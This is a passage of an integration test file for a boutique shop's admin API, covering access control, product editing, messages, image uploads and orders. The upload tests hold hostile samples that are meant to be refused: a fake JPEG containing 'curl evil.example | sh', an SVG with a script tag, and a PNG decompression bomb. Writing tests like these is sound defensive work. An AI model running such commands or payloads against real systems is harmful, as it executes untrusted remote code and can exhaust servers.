import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq } from 'drizzle-orm';
import { ADMIN_API, AdminProductResponseSchema, type ProductCreateInput } from '@boutique/contracts/admin';
import { shopDay } from '@boutique/contracts/constants';
import { contactMessages, productStock } from '../src/db/schema/index.js';
import type { FastifyInstance } from 'fastify';
import { buildApp } from '../src/app.js';
import { loadConfig } from '../src/env.js';
import { startTestApp, type TestApp } from './helpers.js';
import { readMails } from './mail.js';
import {
  articles,
  call,
  countRows,
  createIntent,
  eventually,
  fillCart,
  generousLimits,
  makeAdmin,
  newShopper,
  placeOrder,
  plentyOfStock,
  stockOf,
  totalOf,
  type Article,
  type CartLine,
  type Shopper,
} from './support/shop.js';

let t: TestApp;
let admin: Shopper;
let customer: Shopper;

beforeAll(async () => {
  t = await startTestApp({ ...generousLimits });
  admin = await newShopper(t, 'Lalla Owner');
  await makeAdmin(t, admin);
  customer = await newShopper(t, 'Noura Customer');
});
afterAll(() => t?.close());

/** A new caftan as the back office's form sends it. */
export const newCaftan = (overrides: Partial<ProductCreateInput> = {}): ProductCreateInput => ({
  category: 'caftan',
  name: { en: 'Noor Ivory Silk Caftan', fr: 'Caftan Noor en soie ivoire', ar: 'قفطان نور الحريري العاجي' },
  description: {
    en: 'Ivory silk crepe with gold sfifa down the front.',
    fr: 'Crêpe de soie ivoire, sfifa dorée sur le devant.',
    ar: 'كريب حرير عاجي مع سفيفة ذهبية على الواجهة.',
  },
  details: [{ en: 'Hand-sewn buttons', fr: 'Boutons cousus main', ar: 'أزرار مخيطة يدويا' }],
  care: [{ en: 'Dry clean only', fr: 'Nettoyage à sec', ar: 'تنظيف جاف فقط' }],
  price: '2450',
  old_price: '2900.00',
  featured: true,
  colors: [{ name: { en: 'Ivory', fr: 'Ivoire', ar: 'عاجي' }, value: '#F4EEDC' }],
  sizes: [
    { name: 'S', stock: 2 },
    { name: 'M', stock: 5 },
  ],
  ...overrides,
});

/** Waits for the e-mail with this subject (the status e-mail leaves after the answer). */
const mailTo = (to: string, subject: string) =>
  eventually(async () =>
    readMails(t.config.mail.dir).find((m) => m.to === to && m.subject.startsWith(subject)),
  );

const asAdmin = (method: string, path: string, body?: unknown) => call(t, method, path, admin.token, body);

/** An order's move as the back office makes it: with the order's version as its page shows it now. */
const moveOrder = (id: number, body: Record<string, unknown>) =>
  asAdminAt('PATCH', ADMIN_API.orderStatus(id), ADMIN_API.order(id), 'order', body);

/** The version of a product, scene, order or message as its single-record answer says (decision 028). */
const versionAt = async (path: string, key: 'product' | 'order') =>
  (await asAdmin('GET', path)).body.data[key].version as number;
/** A write with the version of the record as it is now: the back office's own writes, made from a fresh page. */
const asAdminAt = async (
  method: string,
  path: string,
  versionPath: string,
  key: 'product' | 'order',
  body = {},
) => asAdmin(method, path, { ...body, version: await versionAt(versionPath, key) });

describe('who may use the back office', () => {
  // Every admin route with a body it would accept: the guard answers before anything is read or written.
  const routes: [string, string, unknown?][] = [
    ['GET', ADMIN_API.products],
    ['POST', ADMIN_API.products, newCaftan()],
    ['GET', ADMIN_API.product(1)],
    ['PATCH', ADMIN_API.product(1), { price: '1.00' }],
    ['DELETE', ADMIN_API.product(1)],
    ['POST', ADMIN_API.productImages(1)],
    ['PATCH', ADMIN_API.productImages(1), { order: [1] }],
    ['DELETE', ADMIN_API.productImage(1, 1)],
    ['GET', ADMIN_API.categories],
    ['GET', ADMIN_API.galleries],
    ['POST', ADMIN_API.galleries],
    ['PATCH', ADMIN_API.galleries, { order: [1] }],
    ['PATCH', ADMIN_API.gallery(1), { caption: { en: 'a', fr: 'a', ar: 'a' } }],
    ['DELETE', ADMIN_API.gallery(1)],
    ['GET', ADMIN_API.orders],
    ['GET', ADMIN_API.order(1)],
    ['GET', ADMIN_API.packingSlip(1)],
    ['PATCH', ADMIN_API.orderStatus(1), { status: 'shipped' }],
    ['GET', ADMIN_API.messages],
    ['PATCH', ADMIN_API.message(1), { read: true }],
    ['GET', ADMIN_API.customers],
    ['GET', ADMIN_API.customer(1)],
    ['GET', ADMIN_API.stats],
  ];

  it.each(routes)(
    '%s %s: a guest hears 401, a customer 403, and nothing changes',
    async (method, path, body) => {
      const before = await Promise.all(['products', 'audit_log', 'galleries'].map((n) => countRows(t, n)));
      const guest = await call(t, method, path, undefined, body);
      expect(guest.status).toBe(401);
      expect(guest.body).toMatchObject({ success: false, message: 'Unauthenticated.' });
      const shopper = await call(t, method, path, customer.token, body);
      expect(shopper.status).toBe(403);
      expect(shopper.body).toMatchObject({ success: false, message: 'This action is unauthorized.' });
      expect(await Promise.all(['products', 'audit_log', 'galleries'].map((n) => countRows(t, n)))).toEqual(
        before,
      );
    },
  );

  it('lets an admin in once the sign-in has passed the second factor', async () => {
    expect((await asAdmin('GET', ADMIN_API.stats)).status).toBe(200);
    const fresh = await newShopper(t, 'Half Admin');
    await t.database.db.execute(
      `update users set role = 'admin', email_verified_at = now() where id = ${fresh.id}`,
    );
    const halfway = await call(t, 'GET', ADMIN_API.products, fresh.token);
    expect(halfway.status).toBe(403);
    expect(halfway.body.code).toBe('second_factor_enrolment_required');
  });
});

describe('the documentation', () => {
  it('publishes every admin route in the OpenAPI document', async () => {
    const doc = await t.json('/api/docs/json');
    expect(doc.status).toBe(200);
    const paths = Object.keys(doc.body.paths).filter((p) => p.startsWith('/api/v1/admin/'));
    expect(paths.sort()).toEqual(
      [
        '/api/v1/admin/categories',
        '/api/v1/admin/collections',
        '/api/v1/admin/collections/{id}',
        '/api/v1/admin/collections/{id}/image',
        '/api/v1/admin/customers',
        '/api/v1/admin/customers/export.csv',
        '/api/v1/admin/customers/{id}',
        '/api/v1/admin/customers/{id}/notes',
        '/api/v1/admin/customers/{id}/notes/{noteId}',
        '/api/v1/admin/customers/{id}/tags',
        '/api/v1/admin/customer-tags',
        '/api/v1/admin/discounts',
        '/api/v1/admin/discounts/{id}',
        '/api/v1/admin/galleries',
        '/api/v1/admin/galleries/{id}',
        '/api/v1/admin/mail/failed',
        '/api/v1/admin/mail/{id}/resend',
        '/api/v1/admin/messages',
        '/api/v1/admin/messages/{id}',
        '/api/v1/admin/messages/{id}/replies',
        '/api/v1/admin/orders',
        '/api/v1/admin/orders/export.csv',
        '/api/v1/admin/orders/{id}',
        '/api/v1/admin/orders/{id}/credit-notes/{number}',
        '/api/v1/admin/orders/{id}/notes',
        '/api/v1/admin/orders/{id}/notes/{noteId}',
        '/api/v1/admin/orders/{id}/packing-slip',
        '/api/v1/admin/orders/{id}/payment',
        '/api/v1/admin/orders/{id}/refunds',
        '/api/v1/admin/products',
        '/api/v1/admin/products/bulk',
        '/api/v1/admin/products/export.csv',
        '/api/v1/admin/products/import',
        '/api/v1/admin/products/selection',
        '/api/v1/admin/products/{id}',
        '/api/v1/admin/products/{id}/images',
        '/api/v1/admin/products/{id}/images/{imageId}',
        '/api/v1/admin/products/{id}/stock-adjustments',
        '/api/v1/admin/products/{id}/stock-requests',
        '/api/v1/admin/reports/vat',
        '/api/v1/admin/reports/vat.csv',
        '/api/v1/admin/refunds',
        '/api/v1/admin/returns',
        '/api/v1/admin/returns/{id}',
        '/api/v1/admin/search/synonyms',
        '/api/v1/admin/search/synonyms/{id}',
        '/api/v1/admin/shipping-zones',
        '/api/v1/admin/shipping-zones/{id}',
        '/api/v1/admin/staff',
        '/api/v1/admin/staff/invitations',
        '/api/v1/admin/staff/invitations/{id}',
        '/api/v1/admin/staff/{userId}',
        '/api/v1/admin/stats',
        '/api/v1/admin/workload',
      ].sort(),
    );
    expect(doc.body.paths['/api/v1/orders/{id}/status'].patch.requestBody).toBeDefined();
  });
});

describe('products', () => {
  const publicProduct = (slug: string) => t.json(`/api/v1/products/slug/${slug}`);
  const publicCategory = () => t.json('/api/v1/products/filters/category/caftan');
  const publicSearch = (q: string) => t.json(`/api/v1/products/search?q=${encodeURIComponent(q)}`);

  it('creates a product that the shop shows at once, with its stock per size, and records who did it', async () => {
    // The public answers are cached before the change: the change must drop them.
    await publicCategory();
    await publicSearch('noor ivory');
    const res = await asAdmin('POST', ADMIN_API.products, newCaftan());
    expect(res.status).toBe(201);
    const { product, audit } = AdminProductResponseSchema.parse(res.body).data;
    expect(product).toMatchObject({
      slug: 'noor-ivory-silk-caftan',
      category: 'caftan',
      price: '2450.00',
      old_price: '2900.00',
      status: 'active',
      featured: true,
      best_seller: false,
      archived_at: null,
      colors: [{ name: { en: 'Ivory', fr: 'Ivoire', ar: 'عاجي' }, value: '#f4eedc' }],
      sizes: [
        { name: 'S', stock: 2, reserved: 0 },
        { name: 'M', stock: 5, reserved: 0 },
      ],
      images: [],
    });
    expect(audit).toEqual([
      expect.objectContaining({
        action: 'product.create',
        actor: { id: admin.id, name: 'Lalla Owner', email: admin.email },
        before: null,
        after: expect.objectContaining({ slug: 'noor-ivory-silk-caftan', price: '2450.00' }),
      }),
    ]);
    const rows = await t.database.db
      .select()
      .from(productStock)
      .where(eq(productStock.productId, product.id));
    expect(rows.map((r) => [r.size, r.stock]).sort()).toEqual([
      ['M', 5],
      ['S', 2],
    ]);

    const shown = await publicProduct('noor-ivory-silk-caftan');
    expect(shown.status).toBe(200);
    expect(shown.body.data.product).toMatchObject({
      name: { ar: 'قفطان نور الحريري العاجي' },
      price: '2450.00',
      sizes: [
        { name: 'S', in_stock: true, left: 2 },
        { name: 'M', in_stock: true },
      ],
    });
    const category = await publicCategory();
    expect(category.body.data.data.products.map((p: { slug: string }) => p.slug)).toContain(
      'noor-ivory-silk-caftan',
    );
    const found = await publicSearch('noor ivory');
    expect(found.body.data.data.products.map((p: { slug: string }) => p.slug)).toEqual([
      'noor-ivory-silk-caftan',
    ]);
  });

  it('edits a product: the shop shows the new price at once, the audit has before and after', async () => {
    const created = await asAdmin(
      'POST',
      ADMIN_API.products,
      newCaftan({
        name: { en: 'Yasmine Rose Caftan', fr: 'Caftan Yasmine rose', ar: 'قفطان ياسمين الوردي' },
      }),
    );
    const id = created.body.data.product.id as number;
    expect((await publicProduct('yasmine-rose-caftan')).body.data.product.price).toBe('2450.00');
    const res = await asAdmin('PATCH', ADMIN_API.product(id), {
      price: '1999.5',
      sizes: [{ name: 'M' }, { name: 'L' }],
      version: created.body.data.product.version,
    });
    expect(res.status).toBe(200);
    // Sizes come and go with the product; their pieces stay as they were (a new size starts with none).
    expect(res.body.data.product).toMatchObject({
      price: '1999.50',
      old_price: '2900.00',
      sizes: [
        { name: 'M', stock: 5, reserved: 0 },
        { name: 'L', stock: 0, reserved: 0 },
      ],
      version: created.body.data.product.version + 1,
    });
    expect(res.headers.get('etag')).toBe(`W/"${res.body.data.product.version}"`);
    const shown = (await publicProduct('yasmine-rose-caftan')).body.data.product;
    expect(shown.price).toBe('1999.50');
    expect(shown.sizes).toEqual([
      { name: 'M', in_stock: true },
      { name: 'L', in_stock: false, left: 0 },
    ]);
    const [latest] = res.body.data.audit;
    expect(latest).toMatchObject({
      action: 'product.update',
      before: { price: '2450.00' },
      after: { price: '1999.50' },
    });
  });

  it('archives a product: gone from the category, slug and search answers, kept for the back office', async () => {
    const created = await asAdmin(
      'POST',
      ADMIN_API.products,
      newCaftan({ name: { en: 'Tiziri Teal Caftan', fr: 'Caftan Tiziri sarcelle', ar: 'قفطان تيزيري' } }),
    );
    const id = created.body.data.product.id as number;
    expect((await publicProduct('tiziri-teal-caftan')).status).toBe(200);
    const res = await asAdminAt('DELETE', ADMIN_API.product(id), ADMIN_API.product(id), 'product');
    expect(res.status).toBe(200);
    expect(res.body.data.product).toMatchObject({ status: 'inactive', archived_at: expect.any(String) });
    expect(res.body.data.audit[0]).toMatchObject({ action: 'product.archive' });
    expect((await publicProduct('tiziri-teal-caftan')).status).toBe(404);
    expect(
      (await publicCategory()).body.data.data.products.map((p: { slug: string }) => p.slug),
    ).not.toContain('tiziri-teal-caftan');
    expect((await publicSearch('tiziri')).body.data.data.products).toEqual([]);
    const listed = await asAdmin('GET', `${ADMIN_API.products}?status=archived`);
    expect(listed.body.data.products.data.map((p: { id: number }) => p.id)).toContain(id);
    const active = await asAdmin('GET', `${ADMIN_API.products}?q=tiziri`);
    expect(active.body.data.products.total).toBe(0);
  });

  it('lists, searches, filters and pages the products', async () => {
    const page = await asAdmin('GET', `${ADMIN_API.products}?per_page=5&category=jellaba`);
    expect(page.status).toBe(200);
    expect(page.body.data.products).toMatchObject({ current_page: 1, per_page: 5, total: 18, last_page: 4 });
    expect(page.body.data.products.data).toHaveLength(5);
    expect(page.body.data.products.data.every((p: { category: string }) => p.category === 'jellaba')).toBe(
      true,
    );
    const found = await asAdmin('GET', `${ADMIN_API.products}?q=${encodeURIComponent('zahra')}`);
    expect(found.body.data.products.data.map((p: { slug: string }) => p.slug)).toContain(
      'zahra-emerald-velvet-caftan',
    );
    const inactive = await asAdmin('GET', `${ADMIN_API.products}?status=inactive&per_page=100`);
    expect(inactive.body.data.products.data.every((p: { status: string }) => p.status === 'inactive')).toBe(
      true,
    );
  });

  describe('refuses bad input with 422 and field errors, writing nothing', () => {
    const { ar: _ar, ...noArabic } = newCaftan().name as Record<string, string>;
    const cases: [string, Partial<ProductCreateInput> | Record<string, unknown>, string, RegExp][] = [
      ['a missing Arabic name', { name: noArabic }, 'name.ar', /Arabic name field is required/],
      ['a negative price', { price: '-10.00' }, 'price', /may not be negative/],
      [
        'an old price below the price',
        { price: '500', old_price: '450.00' },
        'old_price',
        /higher than the price/,
      ],
      ['an unknown category', { category: 'kimono' }, 'category', /no category "kimono"/],
      ['a taken slug', { slug: 'zahra-emerald-velvet-caftan' }, 'slug', /already used/],
      [
        'a 10,000-character name',
        { name: { en: 'x'.repeat(10_000), fr: 'Caftan', ar: 'قفطان' } },
        'name.en',
        /may not be greater than 200 characters/,
      ],
    ];

    it.each(cases)('%s', async (_what, overrides, field, message) => {
      const before = await Promise.all(
        ['products', 'product_stock', 'product_colors', 'colors', 'audit_log'].map((n) => countRows(t, n)),
      );
      const res = await asAdmin('POST', ADMIN_API.products, { ...newCaftan(), ...overrides });
      expect(res.status).toBe(422);
      expect(res.body.success).toBe(false);
      expect(res.body.errors[field]?.[0]).toMatch(message);
      expect(
        await Promise.all(
          ['products', 'product_stock', 'product_colors', 'colors', 'audit_log'].map((n) => countRows(t, n)),
        ),
      ).toEqual(before);
    });

    it('the same on an edit, and the product stays as it was', async () => {
      const [zahra] = (await asAdmin('GET', `${ADMIN_API.products}?q=zahra-emerald`)).body.data.products.data;
      const before = (await asAdmin('GET', ADMIN_API.product(zahra.id))).body.data;
      for (const [body, field] of [
        [{ price: '-1' }, 'price'],
        [{ old_price: '1.00' }, 'old_price'],
        [{ category: 'kimono' }, 'category'],
        [{ slug: 'noor-ivory-silk-caftan' }, 'slug'],
        [{ name: { en: 'Zahra', fr: 'Zahra' } }, 'name.ar'],
        [{ name: { en: 'x'.repeat(10_000), fr: 'a', ar: 'b' } }, 'name.en'],
      ] as const) {
        const res = await asAdmin('PATCH', ADMIN_API.product(zahra.id), {
          ...body,
          version: before.product.version,
        });
        expect(res.status, JSON.stringify(body).slice(0, 60)).toBe(422);
        expect(Object.keys(res.body.errors)).toContain(field);
      }
      expect((await asAdmin('GET', ADMIN_API.product(zahra.id))).body.data).toEqual(before);
    });
  });
});

describe('messages', () => {
  it('lists the inbox unread first, marks read and archives, with an audit row each', async () => {
    const { db } = t.database;
    const [older] = await db
      .insert(contactMessages)
      .values({
        name: 'Amal',
        email: 'amal@example.ae',
        message: 'Do you ship to Abu Dhabi?',
        createdAt: new Date(Date.now() - 60_000),
      })
      .returning();
    const [newer] = await db
      .insert(contactMessages)
      .values({ name: 'Sara', email: 'sara@example.ae', message: 'Custom size?', readAt: new Date() })
      .returning();
    const inbox = await asAdmin('GET', ADMIN_API.messages);
    expect(inbox.status).toBe(200);
    expect(inbox.body.data.unread).toBe(1);
    expect(inbox.body.data.messages.data.map((m: { id: number }) => m.id)).toEqual([older!.id, newer!.id]);

    const read = await asAdmin('PATCH', ADMIN_API.message(older!.id), {
      read: true,
      version: older!.version,
    });
    expect(read.status).toBe(200);
    expect(read.body.data.message.read_at).toEqual(expect.any(String));
    const archived = await asAdmin('PATCH', ADMIN_API.message(newer!.id), {
      archived: true,
      version: newer!.version,
    });
    expect(archived.body.data.message.archived_at).toEqual(expect.any(String));
    const after = await asAdmin('GET', ADMIN_API.messages);
    expect(after.body.data.unread).toBe(0);
    expect(after.body.data.messages.data.map((m: { id: number }) => m.id)).toEqual([older!.id]);
    const box = await asAdmin('GET', `${ADMIN_API.messages}?box=archived`);
    expect(box.body.data.messages.data.map((m: { id: number }) => m.id)).toEqual([newer!.id]);
    expect((await asAdmin('PATCH', ADMIN_API.message(999_999), { read: true, version: 1 })).status).toBe(404);
    expect((await asAdmin('PATCH', ADMIN_API.message(older!.id), { version: 2 })).status).toBe(422);
  });
});

// ---------------------------------------------------------------- pictures

/** A PNG's header claiming `width` x `height` pixels around a 1-pixel image: a decompression bomb's shape. */
async function pixelBomb(width: number, height: number): Promise<Buffer> {
  const png = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } })
    .png()
    .toBuffer();
  // IHDR's data starts at byte 16 (8 signature + 4 length + 4 type); its CRC covers type and data.
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)) >>> 0, 29);
  return png;
}

/** A phone photo: landscape pixels that its EXIF orientation (6: rotate 90°) turns into a portrait, with GPS. */
const phonePhoto = () =>
  sharp({ create: { width: 1000, height: 600, channels: 3, background: '#8a2c3b' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({ IFD0: { Copyright: 'Lalla Owner', Make: 'PhoneCo' } })
    .toBuffer();

const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 4, background: '#1f6b4fff' } })
    .png()
    .toBuffer();

type Upload = { bytes: Buffer; name: string; type: string };

function upload(path: string, files: Upload[], fields: Record<string, string> = {}, token = admin.token) {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  for (const f of files) form.append('file', new Blob([new Uint8Array(f.bytes)], { type: f.type }), f.name);
  return t.json(path, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
}

describe('pictures', () => {
  let productId: number;
  const stored = async () => (await t.app.storage.list('products/uploads/')).sort();

  beforeAll(async () => {
    const res = await asAdmin(
      'POST',
      ADMIN_API.products,
      newCaftan({
        name: { en: 'Ghita Saffron Caftan', fr: 'Caftan Ghita safran', ar: 'قفطان غيثة الزعفراني' },
      }),
    );
    productId = res.body.data.product.id;
  });

  it('takes several photos at once, upright, without metadata, in WebP and AVIF renditions the shop shows', async () => {
    const res = await upload(ADMIN_API.productImages(productId), [
      { bytes: await phonePhoto(), name: 'IMG_2041.JPG', type: 'image/jpeg' },
      { bytes: await png(1600, 1200), name: 'flat.png', type: 'image/png' },
    ]);
    expect(res.status).toBe(201);
    const { image, uploaded, images } = res.body.data;
    expect(uploaded).toHaveLength(2);
    expect(image).toEqual(uploaded[0]);
    expect(images.map((i: { id: number }) => i.id)).toEqual(uploaded.map((i: { id: number }) => i.id));
    // 1000 x 600 turned by its orientation: 600 wide, 1000 high; renditions never wider than the photo.
    expect(uploaded[0]).toMatchObject({ width: 400, height: 667 });
    expect(uploaded[0].srcset).toMatch(/-200\.webp 200w, .*-400\.webp 400w$/);
    expect(uploaded[1]).toMatchObject({ width: 800, height: 600 });
    expect(uploaded[1].avif_srcset).toMatch(/-1200\.avif 1200w$/);

    const keys = await stored();
    expect(keys.filter((k) => k.endsWith('.webp'))).toHaveLength(2 + 4);
    expect(keys.filter((k) => k.endsWith('.avif'))).toHaveLength(2 + 4);
    const fetched = await t.fetch(uploaded[0].url);
    expect(fetched.status).toBe(200);
    expect(fetched.headers.get('content-type')).toBe('image/webp');
    const meta = await sharp(Buffer.from(await fetched.arrayBuffer())).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 400, height: 667 });
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    const avifKey = keys.find((k) => k.endsWith('-400.avif'))!;
    const avif = await t.fetch(`/storage/${avifKey}`);
    expect((await sharp(Buffer.from(await avif.arrayBuffer())).metadata()).format).toBe('heif');

    const shop = await t.json('/api/v1/products/slug/ghita-saffron-caftan');
    expect(shop.body.data.product.images.map((i: { url: string }) => i.url)).toEqual(
      uploaded.map((i: { url: string }) => i.url),
    );
    const detail = await asAdmin('GET', ADMIN_API.product(productId));
    expect(detail.body.data.audit[0]).toMatchObject({ action: 'product.image.add' });
  });

  it('refuses what is not a photo, with a clear message, and stores nothing', async () => {
    const before = { keys: await stored(), rows: await countRows(t, 'product_images') };
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
    );
    const cases: [Upload, RegExp][] = [
      [
        { bytes: svg, name: 'logo.svg', type: 'image/svg+xml' },
        /"logo\.svg" is not a JPEG, PNG, WebP or AVIF photo/,
      ],
      [
        {
          bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
          name: 'holiday.jpg',
          type: 'image/jpeg',
        },
        /"holiday\.jpg" is not a JPEG, PNG, WebP or AVIF photo/,
      ],
      [
        {
          bytes: Buffer.concat([await phonePhoto(), Buffer.alloc(40 * 1024 * 1024)]),
          name: 'huge.jpg',
          type: 'image/jpeg',
        },
        /may not be larger than 15 MB/,
      ],
      [
        { bytes: await pixelBomb(20_000, 20_000), name: 'bomb.png', type: 'image/png' },
        /larger than 12000 pixels/,
      ],
    ];
    for (const [file, message] of cases) {
      // With a good photo beside it: the whole upload is refused, the good one is not kept either.
      const res = await upload(ADMIN_API.productImages(productId), [
        { bytes: await png(800, 800), name: 'good.png', type: 'image/png' },
        file,
      ]);
      expect(res.status, file.name).toBe(422);
      expect(res.body.message).toMatch(message);
      expect(res.body.errors.file[0]).toMatch(message);
    }
    expect({ keys: await stored(), rows: await countRows(t, 'product_images') }).toEqual(before);
    const none = await upload(ADMIN_API.productImages(productId), []);
    expect(none.status).toBe(422);
    expect(none.body.errors.file[0]).toMatch(/at least one picture/);
  });

  it('reorders, chooses the main picture and deletes one (its files with it)', async () => {
    const images = (await asAdmin('GET', ADMIN_API.product(productId))).body.data.product.images as {
      id: number;
      url: string;
    }[];
    const ids = images.map((i) => i.id);
    expect(ids).toHaveLength(2);
    const at = () => versionAt(ADMIN_API.product(productId), 'product');
    const reordered = await asAdmin('PATCH', ADMIN_API.productImages(productId), {
      order: [...ids].reverse(),
      version: await at(),
    });
    expect(reordered.status).toBe(200);
    expect(reordered.body.data.images.map((i: { id: number }) => i.id)).toEqual([...ids].reverse());
    const main = await asAdmin('PATCH', ADMIN_API.productImages(productId), {
      main: ids[0],
      version: reordered.body.data.version,
    });
    expect(main.body.data.images.map((i: { id: number }) => i.id)).toEqual(ids);
    const shop = await t.json('/api/v1/products/slug/ghita-saffron-caftan');
    expect(shop.body.data.product.images[0].url).toBe(images[0]!.url);
    const bad = await asAdmin('PATCH', ADMIN_API.productImages(productId), {
      order: [ids[0]],
      version: main.body.data.version,
    });
    expect(bad.status).toBe(422);
    expect(bad.body.errors.order[0]).toMatch(/every picture/);

    const removed = await asAdmin('DELETE', ADMIN_API.productImage(productId, ids[0]!), {
      version: main.body.data.version,
    });
    expect(removed.status).toBe(200);
    expect(removed.body.data.images.map((i: { id: number }) => i.id)).toEqual([ids[1]]);
    expect((await t.fetch(images[0]!.url)).status).toBe(404);
    expect((await stored()).filter((k) => k.endsWith('.webp'))).toHaveLength(4);
    expect(
      (await asAdmin('DELETE', ADMIN_API.productImage(productId, ids[0]!), { version: await at() })).status,
    ).toBe(404);
  });

  it('adds, captions, reorders and deletes gallery scenes the same way', async () => {
    const before = (await t.json('/api/v1/galleries')).body.data.data.galleries as { id: number }[];
    const refused = await upload(
      ADMIN_API.galleries,
      [
        {
          bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'),
          name: 'scene.jpg',
          type: 'image/jpeg',
        },
      ],
      { caption_en: 'Riad', caption_fr: 'Riad', caption_ar: 'رياض' },
    );
    expect(refused.status).toBe(422);
    const noCaption = await upload(
      ADMIN_API.galleries,
      [{ bytes: await png(1000, 1250), name: 's.png', type: 'image/png' }],
      {
        caption_en: 'Riad',
      },
    );
    expect(noCaption.status).toBe(422);
    expect(Object.keys(noCaption.body.errors)).toEqual(['caption_fr', 'caption_ar']);
    expect(await t.app.storage.list('gallery/up-')).toEqual([]);

    const res = await upload(
      ADMIN_API.galleries,
      [{ bytes: await png(1000, 1250), name: 'riad.png', type: 'image/png' }],
      {
        caption_en: 'A riad courtyard at noon',
        caption_fr: 'Un patio de riad à midi',
        caption_ar: 'فناء رياض عند الظهر',
      },
    );
    expect(res.status).toBe(201);
    const scene = res.body.data.gallery;
    expect(scene).toMatchObject({
      caption: { ar: 'فناء رياض عند الظهر' },
      image: { width: 960, height: 1200 },
    });
    const shown = (await t.json('/api/v1/galleries')).body.data.data.galleries as {
      id: number;
      caption: { en: string };
    }[];
    expect(shown.map((g) => g.id)).toEqual([...before.map((g) => g.id), scene.id]);

    const order = [scene.id, ...before.map((g) => g.id)];
    const listed = (await asAdmin('GET', ADMIN_API.galleries)).body.data.galleries as {
      id: number;
      version: number;
    }[];
    const versions = Object.fromEntries(listed.map((g) => [String(g.id), g.version]));
    const reordered = await asAdmin('PATCH', ADMIN_API.galleries, { order, versions });
    expect(reordered.body.data.galleries.map((g: { id: number }) => g.id)).toEqual(order);
    const captioned = await asAdmin('PATCH', ADMIN_API.gallery(scene.id), {
      caption: { en: 'Noon in the riad', fr: 'Midi au riad', ar: 'الظهيرة في الرياض' },
      version: reordered.body.data.galleries[0].version,
    });
    expect(captioned.body.data.gallery.caption.en).toBe('Noon in the riad');
    // On a server the cached answer is dropped when the database's notice arrives, a moment after the commit.
    await expect
      .poll(async () => (await t.json('/api/v1/galleries')).body.data.data.galleries[0].caption.en, {
        timeout: 3000,
      })
      .toBe('Noon in the riad');
    const gone = await asAdmin('DELETE', ADMIN_API.gallery(scene.id), {
      version: captioned.body.data.gallery.version,
    });
    expect(gone.body.data.galleries.map((g: { id: number }) => g.id)).toEqual(before.map((g) => g.id));
    expect(await t.app.storage.list('gallery/up-')).toEqual([]);
  });
});

// ---------------------------------------------------------------- orders, customers, dashboard

describe('orders, customers and the dashboard', () => {
  let shopper: Shopper;
  let article: Article;
  const orderIds: number[] = [];
  const numbers: string[] = [];

  const newOrder = async (quantity = 1) => {
    const lines: CartLine[] = [{ ...article, quantity }];
    const res = await placeOrder(t, shopper, lines);
    expect(res.status).toBe(201);
    orderIds.push(res.body.data.order_id);
    numbers.push(res.body.data.order_number);
    return res.body.data.order_id as number;
  };
  const stockNow = async () => (await stockOf(t, article))?.stock;

  beforeAll(async () => {
    shopper = await newShopper(t, 'Mariam Haddad');
    await plentyOfStock(t, 50);
    article = (await articles(t, 1))[0]!;
    await newOrder(2);
    await newOrder(1);
    await newOrder(1);
  });

  it('lists orders with counts per status, searches by number, e-mail and name, and by dates', async () => {
    const all = await asAdmin('GET', ADMIN_API.orders);
    expect(all.status).toBe(200);
    expect(all.body.data.counts).toMatchObject({ all: 3, unfulfilled: 3, shipped: 0 });
    expect(all.body.data.orders.data[0]).toMatchObject({
      id: orderIds[2],
      order_number: numbers[2],
      customer: { email: shopper.email },
      fulfillment_status: 'unfulfilled',
      payment_status: 'succeeded',
    });
    expect(all.body.data.orders.data[2].items_count).toBe(2);
    const byNumber = await asAdmin('GET', `${ADMIN_API.orders}?q=${numbers[1]!.toLowerCase()}`);
    expect(byNumber.body.data.orders.data.map((o: { id: number }) => o.id)).toEqual([orderIds[1]]);
    const byEmail = await asAdmin(
      'GET',
      `${ADMIN_API.orders}?q=${encodeURIComponent(shopper.email.toUpperCase())}`,
    );
    expect(byEmail.body.data.orders.total).toBe(3);
    // The checkout's billing name (support/shop.ts's address) as well as the account's.
    expect((await asAdmin('GET', `${ADMIN_API.orders}?q=noura`)).body.data.orders.total).toBe(3);
    expect((await asAdmin('GET', `${ADMIN_API.orders}?q=mariam`)).body.data.orders.total).toBe(3);
    expect((await asAdmin('GET', `${ADMIN_API.orders}?q=nobody-at-all`)).body.data.counts.all).toBe(0);
    const today = shopDay(new Date(), t.config.shop.timeZone);
    expect(
      (await asAdmin('GET', `${ADMIN_API.orders}?from=${today}&to=${today}`)).body.data.orders.total,
    ).toBe(3);
    expect((await asAdmin('GET', `${ADMIN_API.orders}?to=2020-01-01`)).body.data.orders.total).toBe(0);
    const backwards = await asAdmin('GET', `${ADMIN_API.orders}?from=${today}&to=2020-01-01`);
    expect(backwards.status).toBe(422);
    expect(backwards.body.errors.to).toBeDefined();
  });

  it('ships an order with carrier and tracking: history, audit, packing slip and the shopper e-mailed', async () => {
    const id = orderIds[0]!;
    const res = await moveOrder(id, {
      status: 'shipped',
      carrier: 'Aramex',
      tracking_number: 'AWB 4410 2231',
      note: 'Wrapped in tissue with a card from the workshop.',
    });
    expect(res.status).toBe(200);
    expect(res.body.data.order.fulfillment_status).toBe('shipped');

    const mail = await mailTo(shopper.email, `Your order ${numbers[0]} is on its way`);
    expect(mail.text).toContain('Carrier: Aramex · tracking number: AWB 4410 2231');
    expect(mail.html).toContain('Wrapped in tissue');

    const detail = await asAdmin('GET', ADMIN_API.order(id));
    expect(detail.status).toBe(200);
    const { order, audit } = detail.body.data;
    expect(order).toMatchObject({
      id,
      fulfillment_status: 'shipped',
      customer: { id: shopper.id, email: shopper.email },
      carrier: 'Aramex',
      tracking_number: 'AWB 4410 2231',
      transaction_id: expect.stringMatching(/^pi_/),
      items: [expect.objectContaining({ product_slug: article.slug, quantity: 2 })],
